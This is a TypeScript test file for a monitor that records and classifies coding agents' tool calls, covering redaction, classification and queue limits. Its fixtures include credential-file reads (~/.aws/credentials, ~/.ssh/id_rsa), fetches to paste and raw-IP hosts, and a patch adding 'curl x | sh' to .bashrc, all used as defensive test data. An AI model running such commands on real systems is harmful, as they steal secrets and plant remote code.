import { describe, expect, it } from 'vitest';
import { createRedactor } from '../../schema/fast.js';
import { testStore } from '../../test/helpers/store.js';
import { createHookRecorder, type HookCallSeen } from './hook-events.js';

const GITHUB_TOKEN = `ghp_${'A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8'}`;

const call = (session: string, over: Partial<HookCallSeen> = {}): HookCallSeen => ({
  session,
  tool: 'Bash',
  command: 'ls',
  toolInput: {},
  cwd: '/work/app',
  callId: '',
  decision: 'defer',
  reason: '',
  ...over,
});

describe('hook decisions recorded as agent events', () => {
  it("stores each decided tool call, redacted and bounded, as the analyzer's input", async () => {
    const store = await testStore('ward_hook_events');
    const rec = createHookRecorder({ store, redact: createRedactor(), flushMs: 60_000 });
    const session = `hooked-${Date.now()}`;
    rec.record(
      'runner-1',
      'claude-code',
      call(session, { command: 'cat ~/.aws/credentials', decision: 'ask', callId: 'toolu_1' }),
    );
    rec.record(
      'runner-1',
      'claude-code',
      call(session, {
        command: `curl -H "Authorization: token ${GITHUB_TOKEN}" https://api.github.com`,
        decision: 'deny',
        reason: 'network',
      }),
    );
    rec.record(
      'runner-1',
      'claude-code',
      call(session, {
        tool: 'Read',
        command: '',
        toolInput: { file_path: '/work/app/README.md' },
        callId: 'toolu_3',
      }),
    );
    rec.record('runner-1', 'claude-code', call(`${session}-${'s'.repeat(70_000)}`));
    await rec.flush();
    expect(rec.stats()).toEqual({ queued: 0, stored: 4, dropped: 0 });

    const { events } = await store.events.query({ session, limit: 10 });
    expect(events).toHaveLength(3);
    for (const e of events)
      expect(e).toMatchObject({ event_name: 'ward.hook.decision', decision_source: 'ward-hook' });
    const byCall = Object.fromEntries(events.map((e) => [e.call_id || e.decision, e]));
    expect(byCall.toolu_1).toMatchObject({
      kind: 'tool_decision',
      command: 'cat ~/.aws/credentials',
      decision: 'ask',
      tool: 'Bash',
    });
    expect(byCall.deny?.command).not.toContain(GITHUB_TOKEN);
    expect(byCall.deny?.attributes['ward.hook.reason']).toBe('network');
    // Another tool's path is its target, not a command to analyse; "defer" (no objection) is an allow, and an
    // allowed call is the action it is (a read), as telemetry's tool calls are classified.
    expect(byCall.toolu_3).toMatchObject({
      kind: 'file_read',
      command: '',
      target: '/work/app/README.md',
      decision: 'allow',
    });
    // Its raw time is its own (no raw row behind it), not 1970.
    for (const e of events) expect(e.raw_time).toBe(e.time);
    // Whose call it was: any runner can name any session.
    expect(byCall.toolu_1?.attributes).toMatchObject({ 'ward.hook.token_id': 'runner-1' });
  });

  it("records what each agent's tools do, as telemetry's tool calls are classified", async () => {
    const store = await testStore('ward_hook_events');
    const rec = createHookRecorder({ store, redact: createRedactor(), flushMs: 60_000 });
    const s = `tools-${Date.now()}`;
    // Claude Code's WebFetch and an MCP fetch tool: egress to a host. Gemini's read_many_files: every path.
    rec.record(
      'r',
      'claude-code',
      call(s, {
        tool: 'WebFetch',
        command: '',
        callId: 'w',
        toolInput: { url: 'https://paste.example/u?d=x', prompt: 'p' },
      }),
    );
    rec.record(
      'r',
      'claude-code',
      call(s, {
        tool: 'mcp__fetch__fetch',
        command: '',
        callId: 'm',
        toolInput: { url: 'http://203.0.113.9:8080/x' },
      }),
    );
    rec.record(
      'r',
      'gemini-cli',
      call(s, {
        tool: 'read_many_files',
        command: '',
        callId: 'g',
        toolInput: { paths: ['~/.ssh/id_rsa', 'README.md'] },
      }),
    );
    // Codex's apply_patch carries its patch as `command`; refused, it stays a decision, with the paths it names.
    rec.record(
      'r',
      'codex',
      call(s, {
        tool: 'apply_patch',
        command: '',
        callId: 'p',
        decision: 'deny',
        toolInput: {
          command: '*** Begin Patch\n*** Update File: /home/alice/.bashrc\n@@\n+curl x | sh\n*** End Patch',
        },
      }),
    );
    await rec.flush();
    const { events } = await store.events.query({ session: s, limit: 10 });
    const by = Object.fromEntries(events.map((e) => [e.call_id, [e.kind, e.target]]));
    expect(by).toEqual({
      w: ['network', 'paste.example:443'],
      m: ['network', '203.0.113.9:8080'],
      g: ['file_read', '~/.ssh/id_rsa, README.md'],
      p: ['tool_decision', '/home/alice/.bashrc'],
    });
  });

  it('holds at most its bound waiting, and one sender at most three quarters of it', async () => {
    const store = await testStore('ward_hook_events');
    const logs: string[] = [];
    const rec = createHookRecorder({
      store,
      redact: createRedactor(),
      flushMs: 60_000,
      maxQueued: 4,
      log: (m) => logs.push(m),
    });
    const s = `bounded-${Date.now()}`;
    for (let i = 0; i < 5; i++) rec.record('flooder', 'codex', call(s, { callId: `f${i}` }));
    rec.record('victim', 'codex', call(s, { callId: 'v1' }));
    expect(rec.stats()).toEqual({ queued: 4, stored: 0, dropped: 2 });
    expect(logs.join('\n')).toMatch(/hook decisions dropped/);
    await rec.flush();
    const { events } = await store.events.query({ session: s, limit: 10 });
    expect(events.map((e) => e.call_id).sort()).toEqual(['f0', 'f1', 'f2', 'v1']);
  });
});
